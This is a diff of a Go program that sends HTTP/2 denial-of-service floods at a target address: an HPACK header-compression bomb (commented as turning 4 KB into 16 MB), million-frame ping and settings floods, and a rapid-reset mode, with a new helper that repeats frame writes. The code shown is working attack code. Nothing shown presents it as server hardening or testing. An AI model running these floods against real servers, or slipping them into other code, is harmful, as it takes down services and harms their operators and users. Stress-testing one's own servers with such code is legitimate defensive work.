@@ -90,7 +90,7 @@ func floods(kind, host string) (func(*http2.Framer) error, bool) {
 		enc := hpack.NewEncoder(&buf)
 		load := req(enc, &buf, hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("b", 4000)})
 		// every later block names the table's newest entry (index 62) 4,000 times: 16 MB per 4 KB
-		bomb := append(req(hpack.NewEncoder(&buf), &buf)[:0:0], bytes.Repeat([]byte{0x80 | 62}, 4000)...)
+		bomb := bytes.Repeat([]byte{0x80 | 62}, 4000)
 		return func(f *http2.Framer) error {
 			if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: load, EndStream: true, EndHeaders: true}); err != nil {
 				return err
@@ -104,21 +104,13 @@ func floods(kind, host string) (func(*http2.Framer) error, bool) {
 		}, true
 	case "ping":
 		return func(f *http2.Framer) error {
-			for i := 0; i < 1000000; i++ {
-				if err := f.WritePing(false, [8]byte{}); err != nil {
-					return err
-				}
-			}
-			return nil
+			return times(1000000, func() error { return f.WritePing(false, [8]byte{}) })
 		}, false
 	case "settings":
 		return func(f *http2.Framer) error {
-			for i := 0; i < 1000000; i++ {
-				if err := f.WriteSettings(http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 1000}); err != nil {
-					return err
-				}
-			}
-			return nil
+			return times(1000000, func() error {
+				return f.WriteSettings(http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 1000})
+			})
 		}, false
 	case "rapid-reset":
 		var buf bytes.Buffer
@@ -177,6 +169,16 @@ func attack(addr string, flood func(*http2.Framer) error, reads bool) (int64, st
 	}
 	wg.Wait()
 	return w.n, code, nil
+}
+
+// times writes n frames with write, stopping at the first error (the server's close).
+func times(n int, write func() error) error {
+	for i := 0; i < n; i++ {
+		if err := write(); err != nil {
+			return err
+		}
+	}
+	return nil
 }
 
 type counter struct {
